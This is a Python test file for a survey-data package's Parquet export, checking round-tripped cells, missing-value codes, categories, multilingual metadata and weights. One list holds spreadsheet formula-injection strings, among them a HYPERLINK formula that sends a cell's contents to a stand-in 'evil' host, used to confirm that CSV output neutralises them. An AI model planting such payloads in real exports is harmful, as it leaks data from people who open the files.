"""Parquet files: typed, and every cell reads back."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest

from analysis.errors import AnalysisError
from analysis.export.csv import to_csv
from analysis.export.design_columns import DesignColumn, Role
from analysis.export.parquet import read_parquet_cells, write_parquet
from analysis.responses import read_release, responses_of
from tests.unit.analysis.export.small_responses import (
    ARABIC,
    TIGRINYA,
    responses_with,
    variable,
)
from tests.unit.analysis.releases import write_release

SCALE = variable("e_meedoen", codes=["1", "2", "nvt"])
PAYLOADS = [
    '=HYPERLINK("http://evil/"&A1,"x")', "+31612345678", "-5", "@SUM(A1)", "\t=1+1", "\r=1", "＝1",
    '"=1"', " =1", "\x00=1", "a,b\nc", ARABIC, TIGRINYA,
]  # fmt: skip


def test_every_cell_of_a_release_reads_back_as_it_stands_in_the_csv(tmp_path):
    responses = responses_of(read_release(write_release(tmp_path / "release", waves=(2024, 2025))))

    write_parquet(responses, tmp_path / "x.parquet")

    cells = read_parquet_cells(tmp_path / "x.parquet")
    known = [c for one in responses.codebook.variables.values() for c in one.columns]
    for column in ["person_id", "case_id", "wave", *known]:
        assert cells[column].tolist() == responses.table[column].tolist(), column


@pytest.mark.parametrize(
    "answers",
    [
        ["7", "10", "dk", "", "break_off"],
        ["7.5", "8", "ref"],
        ["07", "7"],
        ["-5", "skip"],
        ["dk", ""],
    ],
)
def test_numbers_read_back_with_every_kind_of_missing(tmp_path, answers):
    write_parquet(responses_with([variable("n", "number")], {"n": answers}), tmp_path / "x.parquet")

    assert read_parquet_cells(tmp_path / "x.parquet")["n"].tolist() == answers


def test_numbers_are_numbers_and_the_reasons_stand_beside_them(tmp_path):
    responses = responses_with([variable("n", "number")], {"n": ["7", "dk", ""]})

    write_parquet(responses, tmp_path / "x.parquet")

    frame = pd.read_parquet(tmp_path / "x.parquet")
    assert frame["n"].tolist()[0] == 7
    assert frame["n"].isna().tolist() == [False, True, True]
    assert frame["n__missing"].tolist()[1] == "dk"
    assert frame["n"].mean() == 7


def test_codes_are_categories_in_the_codebook_s_order(tmp_path):
    responses = responses_with([SCALE], {"e_meedoen": ["nvt", "1", "dk", ""]})

    write_parquet(responses, tmp_path / "x.parquet")

    column = pd.read_parquet(tmp_path / "x.parquet")["e_meedoen"]
    assert column.cat.categories.tolist() == [
        "1", "2", "nvt", "dk", "ref", "skip", "na_route", "break_off",
    ]  # fmt: skip
    assert column.isna().tolist() == [False, False, False, True]


def test_labels_of_all_languages_and_numbers_are_metadata(tmp_path):
    words = {"nl": "Ja", "ar": ARABIC, "ti": TIGRINYA}
    one = variable("q", codes={"ja": words}, label=words, base="r_act == 'x'", sensitive=True)

    write_parquet(responses_with([one], {"q": ["ja"]}), tmp_path / "x.parquet")

    schema = pq.read_schema(tmp_path / "x.parquet")
    about = json.loads(schema.field("q").metadata[b"variable"])
    assert about["label"] == words
    assert about["codes"] == [{"code": "ja", "number": 1, "label": words}]
    assert (about["base"], about["sensitive"]) == ("r_act == 'x'", True)
    release = json.loads(schema.metadata[b"perspectief"])
    assert release["synthetic"] is True
    assert any("SYNTHETIC" in note for note in release["notes"])


def test_parquet_holds_untouched_what_csv_makes_harmless(tmp_path):
    """A phone number or formula in CSV gets an apostrophe; its twin is the place for the truth."""
    place = variable("place", "code_list")
    responses = responses_with([place], {"place": PAYLOADS})

    write_parquet(responses, tmp_path / "x.parquet")
    runs = [cell for cell in PAYLOADS[:10] if not cell.startswith('"')]
    rows = list(csv.reader(io.StringIO(to_csv(pd.DataFrame({"place": runs})), newline="")))

    assert read_parquet_cells(tmp_path / "x.parquet")["place"].tolist() == PAYLOADS
    assert [row[0][0] for row in rows[1:]] == ["'"] * len(runs)


def test_weights_come_with_their_role_and_full_precision(tmp_path):
    weight = DesignColumn("w", {"en": "w"}, Role.WEIGHT, np.array([1 / 3, np.nan]))
    responses = responses_with([SCALE], {"e_meedoen": ["1", "2"]})

    write_parquet(responses, tmp_path / "x.parquet", design=[weight])

    values = pd.read_parquet(tmp_path / "x.parquet")["w"]
    assert values[0] == 1 / 3
    assert pd.isna(values[1])
    field = pq.read_schema(tmp_path / "x.parquet").field("w")
    assert json.loads(field.metadata[b"variable"])["role"] == "weight"


def test_responses_without_rows_read_back_as_none(tmp_path):
    write_parquet(responses_with([SCALE], {"e_meedoen": []}), tmp_path / "x.parquet")

    cells = read_parquet_cells(tmp_path / "x.parquet")
    assert len(cells) == 0
    assert "e_meedoen" in cells


def test_same_responses_give_the_same_bytes(tmp_path):
    responses = responses_with([SCALE], {"e_meedoen": ["1", "dk"]})
    for name in ("a", "b"):
        write_parquet(responses, tmp_path / name)

    assert (tmp_path / "a").read_bytes() == (tmp_path / "b").read_bytes()


def test_parquet_of_another_origin_is_not_taken_for_a_release(tmp_path):
    pd.DataFrame({"a": [1]}).to_parquet(tmp_path / "x.parquet")

    with pytest.raises(AnalysisError, match="not written from a release"):
        read_parquet_cells(tmp_path / "x.parquet")


def test_own_words_of_respondents_are_refused(tmp_path):
    responses = responses_with([variable("q_other", "open")], {"q_other": ["my name is Sara"]})

    with pytest.raises(AnalysisError, match="own words"):
        write_parquet(responses, tmp_path / "x.parquet")
